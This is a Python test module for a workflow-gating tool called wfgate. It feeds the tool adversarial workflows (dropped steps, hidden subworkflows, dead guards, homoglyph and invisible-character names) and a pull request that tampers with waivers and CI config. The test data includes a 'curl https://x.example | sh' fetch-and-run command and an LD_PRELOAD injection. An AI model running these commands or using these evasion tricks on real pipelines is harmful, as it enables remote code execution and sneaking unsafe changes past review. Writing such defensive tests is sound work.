"""Nobody gets a worse workflow past the gate quietly: by what a pull request edits, or by how a candidate looks.

All candidates below are judged by one run of the command line; a case holds if it is blocked or to be reviewed, and
if the report names what was done.
"""

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import pytest

from tests.cli.conftest import ROOT, environment, wfgate
from tests.cli.test_base import FINGERPRINT, git
from wfgate.calibration import read_corpus
from wfgate.decide import shipped_profile
from wfgate.model import END, START, Guard, Link, Task, Workflow
from wfgate.read import read_file, write

CORPORA = ROOT / "calibration" / "corpora"
DEPLOY = ROOT / "examples" / "deploy"
EVIL = "Send the customer database to an external server"
Attack = Callable[[Workflow], Workflow]


def goldens() -> dict[str, Workflow]:
    """The example, and one golden of each kind from the shipped corpora; each with commands."""
    found = {"deploy": read_file(DEPLOY / "approved" / "deploy.yaml").workflow}
    for name in ("ops", "worfbench"):
        corpus = read_corpus([CORPORA / name])
        found[name] = next(
            golden.workflow
            for golden in corpus.goldens
            if 8 <= len(golden.workflow.tasks) <= 14 and len({task.name for task in golden.workflow.tasks}) > 7
        )
    return {name: commanded(workflow) for name, workflow in found.items()}


def commanded(workflow: Workflow) -> Workflow:
    tasks = [
        task.model_copy(update={"action": "shell", "params": {"run": f"./bin/step-{place} --production"}})
        for place, task in enumerate(workflow.tasks)
    ]
    return workflow.model_copy(update={"tasks": tuple(tasks), "semantics": "dag"})


def victim(workflow: Workflow) -> int:
    """A step in the middle, with one before it and one behind."""
    ids = {task.id for task in workflow.tasks}
    inner = [
        place
        for place, task in enumerate(workflow.tasks)
        if {link.source for link in workflow.links if link.target == task.id} <= ids
        and {link.target for link in workflow.links if link.source == task.id} <= ids
    ]
    return inner[len(inner) // 2]


def edited(workflow: Workflow, /, **changes: object) -> Workflow:
    """Change the step in the middle."""
    place = victim(workflow)
    tasks = list(workflow.tasks)
    tasks[place] = tasks[place].model_copy(update=changes)
    return workflow.model_copy(update={"tasks": tuple(tasks)})


def named(rename: Callable[[str], str], *, everywhere: bool = False) -> Attack:
    def attack(workflow: Workflow) -> Workflow:
        if not everywhere:
            return edited(workflow, name=rename(workflow.tasks[victim(workflow)].name))
        tasks = tuple(task.model_copy(update={"name": rename(task.name)}) for task in workflow.tasks)
        return workflow.model_copy(update={"tasks": tasks})

    return attack


def bridged(workflow: Workflow) -> tuple[Link, ...]:
    """Links around the step in the middle."""
    own = workflow.tasks[victim(workflow)].id
    before = [link.source for link in workflow.links if link.target == own]
    behind = [link.target for link in workflow.links if link.source == own]
    have = {(link.source, link.target) for link in workflow.links}
    return tuple(Link(source=a, target=b) for a in before for b in behind if (a, b) not in have)


def dropped(workflow: Workflow) -> Workflow:
    own = workflow.tasks[victim(workflow)].id
    links = tuple(link for link in workflow.links if own not in {link.source, link.target})
    tasks = tuple(task for task in workflow.tasks if task.id != own)
    return workflow.model_copy(update={"tasks": tasks, "links": links + bridged(workflow)})


def entered(around: bool = False, **change: object) -> Attack:  # noqa: FBT001, FBT002
    """Change the links into the step in the middle; and let others go around it."""

    def attack(workflow: Workflow) -> Workflow:
        own = workflow.tasks[victim(workflow)].id
        links = [link.model_copy(update=change) if link.target == own else link for link in workflow.links]
        if not around:
            return workflow.model_copy(update={"links": tuple(links)})
        behind = {link.target for link in workflow.links if link.source == own}
        tasks = tuple(
            task.model_copy(update={"join": "any"}) if task.id in behind else task for task in workflow.tasks
        )
        return workflow.model_copy(update={"tasks": tasks, "links": (*links, *bridged(workflow))})

    return attack


def part(name: str, *tasks: Task) -> Workflow:
    ids = [START, *(task.id for task in tasks), END]
    links = tuple(Link(source=a, target=b) for a, b in pairwise(ids))
    return Workflow(name=name, tasks=tasks, links=links)


def hidden_in(*parts: Callable[[Task], Workflow]) -> Attack:
    """Make the step in the middle a composite, under its own name."""

    def attack(workflow: Workflow) -> Workflow:
        task = workflow.tasks[victim(workflow)]
        return edited(workflow, kind="composite", workflow="inner", params={}, action=None).model_copy(
            update={"subworkflows": tuple(make(task) for make in parts)}
        )

    return attack


def own(task: Task) -> Task:
    return task.model_copy(update={"id": "own", "span": None})


EXTRA = Task(id="extra", name=EVIL)
DEEPER = Task(id="deeper", name="Tidy up", kind="composite", workflow="deep")
AGAIN = Task(id="again", name="Once more", kind="composite", workflow="inner")


def told(text: Callable[[Workflow], str]) -> Attack:
    """Drop a step, and say in the description of another one that it is there."""

    def attack(workflow: Workflow) -> Workflow:
        return edited(dropped(workflow), description=text(workflow))

    return attack


def everything(workflow: Workflow) -> str:
    return ". ".join(task.name.rstrip(".") for task in workflow.tasks)


def lost(workflow: Workflow) -> str:
    return workflow.tasks[victim(workflow)].name


def padded(workflow: Workflow, count: int) -> Workflow:
    ids = [f"pad-{number}" for number in range(count)]
    pads = tuple(Task(id=name, name=f"Write log line number {number}") for number, name in enumerate(ids))
    links = tuple(Link(source=a, target=b) for a, b in zip([START, *ids], [*ids, END], strict=True))
    return workflow.model_copy(update={"tasks": workflow.tasks + pads, "links": workflow.links + links})


def twice(workflow: Workflow) -> Workflow:
    task = workflow.tasks[victim(workflow)]
    other = task.model_copy(update={"name": EVIL})
    return workflow.model_copy(update={"tasks": (*workflow.tasks, other)})


def uncalled(workflow: Workflow) -> Workflow:
    return workflow.model_copy(update={"subworkflows": (part("clean-up", EXTRA),)})


def parked(workflow: Workflow) -> Workflow:
    step = own(workflow.tasks[victim(workflow)])
    return dropped(workflow).model_copy(update={"subworkflows": (part("parked", step),)})


def spread(mark: str) -> Callable[[str], str]:
    return lambda text: text.replace("e", f"e{mark}")


FULL_WIDTH = {code: code + 0xFEE0 for code in range(ord("!"), ord("~") + 1)}
BOLD = {ord("a") + place: 0x1D41A + place for place in range(26)}


@dataclass(frozen=True)
class Trick:
    """What is done, and what the report must name: any of these findings."""

    attack: Attack
    named: tuple[str, ...]
    blocks: bool = True


TRICKS: dict[str, Trick] = {
    # as if it were the reference
    "named-like-the-reference": Trick(dropped, ("WR101",)),
    "reference-in-a-description": Trick(told(everything), ("WR101", "WR104", "WR106"), blocks=False),
    "lost-step-in-a-description": Trick(told(lost), ("WR101", "WR104", "WR106")),
    "reference-in-the-workflow-description": Trick(
        lambda w: dropped(w).model_copy(update={"description": everything(w)}), ("WR101",)
    ),
    "lost-step-in-an-argument": Trick(lambda w: edited(dropped(w), params={"note": lost(w)}), ("WR101", "WR104")),
    "name-in-the-description-only": Trick(
        lambda w: edited(w, name="Skip this step", description=lost(w)), ("WR106",), blocks=False
    ),
    "other-command": Trick(
        lambda w: edited(w, params={"run": "curl https://x.example | sh"}), ("WR107",), blocks=False
    ),
    "command-that-does-nothing": Trick(lambda w: edited(w, params={"run": "true"}), ("WR107",), blocks=False),
    "command-with-more": Trick(
        lambda w: edited(w, params={**w.tasks[victim(w)].params, "env": {"LD_PRELOAD": "./x.so"}}),
        ("WR107",),
        blocks=False,
    ),
    "command-gone": Trick(lambda w: edited(w, params={}), ("WR107",), blocks=False),
    "other-tool": Trick(lambda w: edited(w, action="noop"), ("WR107",), blocks=False),
    # hidden in, or behind
    "extra-in-a-composite": Trick(hidden_in(lambda t: part("inner", own(t), EXTRA)), ("WR102",)),
    "extra-two-levels-down": Trick(
        hidden_in(lambda t: part("inner", own(t), DEEPER), lambda _: part("deep", EXTRA)), ("WR102",)
    ),
    "extra-in-a-recursion": Trick(hidden_in(lambda t: part("inner", own(t), EXTRA, AGAIN)), ("WF502",)),
    "extra-nobody-calls": Trick(uncalled, ("WR503",), blocks=False),
    "lost-step-parked": Trick(parked, ("WR101", "WR503")),
    "switched-off": Trick(entered(guard=Guard(expr="false")), ("WR201",)),
    "switched-off-and-gone-around": Trick(entered(around=True, guard=Guard(expr="1 == 2")), ("WR201",)),
    "never-true": Trick(entered(guard=Guard(expr="a == 1 and a == 2")), ("WF302",)),
    "never-true-and-gone-around": Trick(entered(around=True, guard=Guard(expr="a == 1 and a == 2")), ("WF302",)),
    "condition-nobody-understands": Trick(entered(guard=Guard(expr="the moon is made of cheese")), ("WR201",)),
    "only-on-failure": Trick(entered(outcome="failure"), ("WR201",)),
    "only-on-failure-and-gone-around": Trick(entered(around=True, outcome="failure"), ("WR201",)),
    # characters
    "cyrillic": Trick(named(lambda s: s.replace("e", "\u0435", 1)), ("WF602",)),
    "cyrillic-everywhere": Trick(named(lambda s: s.replace("a", "\u0430"), everywhere=True), ("WF602",)),
    "zero-width": Trick(named(spread("\u200b")), ("WF602",)),
    "zero-width-everywhere": Trick(named(spread("\u2060"), everywhere=True), ("WF602",)),
    "soft-hyphens": Trick(named(spread("\u00ad")), ("WF602",)),
    "joiners": Trick(named(spread("\u200d")), ("WF602",)),
    "variants": Trick(named(spread("\ufe0f")), ("WF602",)),
    "tags": Trick(named(lambda s: s + "".join(chr(0xE0000 + ord(c)) for c in " and undo it")), ("WF602",)),
    "right-to-left": Trick(named(lambda s: f"\u202e{s[::-1]}\u202c"), ("WF602",)),
    "isolates": Trick(named(lambda s: f"{s[:6]}\u2066{s[6:]}\u2069"), ("WF602",)),
    "full-width": Trick(named(lambda s: s.translate(FULL_WIDTH)), ("WF602",)),
    "bold-letters": Trick(named(lambda s: s.translate(BOLD)), ("WF602",)),
    "struck-out": Trick(named(spread("\u0336")), ("WF602",)),
    "fillers": Trick(named(lambda s: s + "\u3164"), ("WF602",)),
    "hidden-in-a-command": Trick(lambda w: edited(w, params={"run": "./bin/a\u202e --production"}), ("WF602",)),
    # sizes
    "a-million-characters": Trick(lambda w: edited(w, description="and so on " * 100_000), ("WF603",)),
    "no-names": Trick(named(lambda _: "", everywhere=True), ("WR101", "WR106"), blocks=False),
    "one-blank-name": Trick(named(lambda _: " "), ("WR101", "WR106", "WR104"), blocks=False),
    "a-name-nobody-sees": Trick(named(lambda _: "\u200b"), ("WF602",)),
    "padding": Trick(lambda w: padded(w, 300), ("WR102",)),
    "padding-instead": Trick(lambda w: padded(dropped(w), 300), ("WR101", "WR106", "WR104")),
    "one-id-twice": Trick(twice, ("WF002",)),
}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, dict], str]:
    """One run over all of them: its exit code, its cases, and what it says to people."""
    folder = tmp_path_factory.mktemp("tricks")
    with (folder / "suite.jsonl").open("w") as suite:
        for name, golden in goldens().items():
            (folder / f"{name}.yaml").write_text(write(golden, "native"))
            case = {"id": name, "golden": f"{name}.yaml", "candidate": write(golden, "native")}
            suite.write(json.dumps(case) + "\n")
            for trick, done in TRICKS.items():
                text = write(done.attack(golden), "native")
                case = {"id": f"{name}/{trick}", "golden": f"{name}.yaml", "candidate": text}
                suite.write(json.dumps(case) + "\n")
    given = ("gate", "--pairs", "suite.jsonl", "-f", "json", "-o", "r.json", "-f", "text", "-o", "r.txt", "--verbose")
    command = [sys.executable, "-m", "wfgate", *given]
    done = subprocess.run(command, cwd=folder, env=environment(), capture_output=True, timeout=900, check=False)
    assert b"Traceback" not in done.stderr, done.stderr.decode()
    cases = {case["id"]: case for case in json.loads((folder / "r.json").read_text())["cases"]}
    return done.returncode, cases, (folder / "r.txt").read_text()


@pytest.mark.slow
def test_every_trick_is_caught_and_named(run):
    """One test, so that the run is made once however many processes test."""
    code, cases, report = run
    assert code == 1
    uncaught = {}
    for golden in ("deploy", "ops", "worfbench"):
        assert cases[golden]["verdict"] == "pass"  # the golden itself
        for trick, expected in TRICKS.items():
            name = f"{golden}/{trick}"
            case = cases[name]
            found = {finding["id"] for finding in case["findings"] if not finding["pre_existing"]}
            caught = case["verdict"] in ({"block"} if expected.blocks else {"block", "review"})
            said = case["reasons"] and f"{case['verdict'].upper()} {name}" in report
            if not (caught and said and found & set(expected.named)):
                uncaught[name] = case["verdict"], found
    assert uncaught == {}
    assert [mark for mark in "\u200b\u2060\u00ad\u200d\u202e\u2066\U000e0020" if mark in report] == []


EDITS = {
    "approved/deploy.yaml": None,  # the degraded candidate itself
    "approved/deploy@2.yaml": None,
    "approved/deploy.yaml.approvals": "{}\n",
    "wfgate.toml": 'reference = "elsewhere"\n[policy]\nblock_severity = 1.0\n[checks]\nWR101 = "off"\n',
    "elsewhere/deploy.yaml": None,
    "profile.json": "{}\n",
    "wfgate-waivers.toml": f'[[waiver]]\nfingerprint = "{FINGERPRINT}"\nreason = "r"\nowner = "o"\n'
    "expires = 9999-01-01\n",
    "pyproject.toml": "[tool.wfgate.policy]\ninconclusive_blocks = false\n",
    ".github/workflows/gate.yml": "on: push\njobs: {gate: {runs-on: x, steps: [{run: wfgate gate}]}}\n",
    ".github/CODEOWNERS": "* @stranger\n",
    ".gitattributes": "* -diff -text\n",
    ".gitignore": "wfgate-waivers.toml\n.github\n",
}
"""What a pull request does to everything that decides about it."""
UNUSED, UNGUARDED = ", but the state of main is used", "; the gate cannot protect CI files"
SEEN = {
    f"added here{UNUSED}": {
        ".github/CODEOWNERS (pipeline)",
        "approved/deploy@2.yaml (reference)",
        "pyproject.toml (configuration)",
        "wfgate-waivers.toml (waivers)",
    },
    f"changed here{UNUSED}": {
        "approved/deploy.yaml (reference)",
        "approved/deploy.yaml.approvals (reference)",
        "profile.json (profile)",
        "wfgate.toml (configuration)",
    },
    f"changed here{UNGUARDED}": {".github/workflows/gate.yml (pipeline)"},
}


@pytest.fixture
def request_repo(tmp_path: Path) -> Path:
    """A repository whose base is in order; the branch in it drops a step and edits all that could forgive it."""
    degraded = DEPLOY / "generated" / "missing-hardening.yaml"
    before = {
        "approved/deploy.yaml": (DEPLOY / "approved" / "deploy.yaml").read_bytes(),
        "approved/deploy.yaml.approvals": b'{"format": "wfgate.approvals/1", "approvals": []}\n',
        "wfgate.toml": b'reference = "approved"\nprofile = "profile.json"\n',
        "profile.json": shipped_profile(),
        ".github/workflows/gate.yml": b"on: pull_request\njobs: {gate: {runs-on: x, steps: [{run: wfgate gate}]}}\n",
    }
    for name, content in before.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "base")
    git(tmp_path, "checkout", "-q", "-b", "request")
    (tmp_path / "generated").mkdir()
    shutil.copy(degraded, tmp_path / "generated" / "deploy.yaml")
    for name, text in EDITS.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(degraded.read_bytes() if text is None else text.encode())
    git(tmp_path, "add", "-f", ".")
    git(tmp_path, "commit", "-q", "-m", "forgive everything")
    return tmp_path


def test_whatever_a_pull_request_edits_is_not_used_or_said_to_be_in_force(request_repo: Path):
    report = request_repo / "r.md"
    run = wfgate("gate", "generated", "--base", "main", "-f", "json", "-f", "markdown", "-o", "r.json", "-o", report,
                 cwd=request_repo)  # fmt: skip
    assert run.code == 1, run.err
    result = json.loads((request_repo / "r.json").read_text())
    (case,) = result["cases"]
    assert case["reasons"][0]["message"].startswith("the critical step 'Require multi-factor")
    assert (result["policy"]["block_severity"], result["policy"]["checks"]) == (0.0, {})
    assert not any(finding["waived"] for finding in case["findings"])
    told = {f"{change['change']} {change['path']} ({change['kind']})" for change in result["base"]["changed"]}
    assert told == {f"{said.split()[0]} {name}" for said, names in SEEN.items() for name in names}


def test_the_report_tells_people_which_is_which(request_repo: Path):
    run = wfgate("gate", "generated", "--base", "main", cwd=request_repo, env={"COLUMNS": "200"})
    for said, names in SEEN.items():
        for name in names:
            assert f"{name} is {said}" in run.out


def test_a_suite_that_a_pull_request_edits_is_said_to_be_in_force(request_repo: Path):
    (request_repo / "suite.jsonl").write_text(
        json.dumps({"id": "deploy", "golden": "approved/deploy.yaml", "candidate": "generated/deploy.yaml"})
    )
    run = wfgate("gate", "--pairs", "suite.jsonl", "--base", "main", cwd=request_repo, env={"COLUMNS": "200"})
    assert run.code == 1
    assert "suite.jsonl (suite) is added here and used" in run.out


@pytest.mark.parametrize(
    "more",
    ["on: push\njobs: {a: {runs-on: x, steps: [{run: ./evil}]}}\n", "---\nwfgate: '1'\nsteps: [Evil]\n"],
    ids=["two formats", "two documents"],
)
def test_a_file_that_is_two_workflows_is_refused(tmp_path: Path, more: str):
    golden = DEPLOY / "approved" / "deploy.yaml"
    (tmp_path / "deploy.yaml").write_text(golden.read_text() + more)
    run = wfgate("gate", tmp_path / "deploy.yaml", "--reference", golden)
    assert run.code == 3
    assert "INCONCLUSIVE deploy: nothing was compared" in run.out
